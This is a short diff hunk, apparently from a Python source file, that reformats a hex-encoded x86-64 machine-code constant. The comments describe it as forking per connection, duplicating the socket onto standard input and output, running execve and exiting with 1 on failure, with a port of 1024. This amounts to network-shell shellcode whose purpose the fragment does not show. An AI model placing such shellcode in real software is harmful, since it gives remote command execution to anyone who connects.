@@ -31,8 +31,9 @@ _CODE: Final = bytes.fromhex(
     # fork(); the parent: close(c) and again
     "89c5 b839000000 0f05 85c0 740b b803000000 89ef 0f05 ebc0"
     # the child: dup2(c, 0), dup2(c, 1), execve
-    "b821000000 89ef 31f6 0f05 b821000000 89ef be01000000 0f05 b83b000000 498b7d00 4c89ee 4c89f2 0f05"
-    # exit(1)
+    "b821000000 89ef 31f6 0f05 b821000000 89ef be01000000 0f05"
+    "b83b000000 498b7d00 4c89ee 4c89f2 0f05"
+    # and where all of them fail to: exit with 1
     "b83c000000 bf01000000 0f05"
 )
 _PORT: Final = 1024
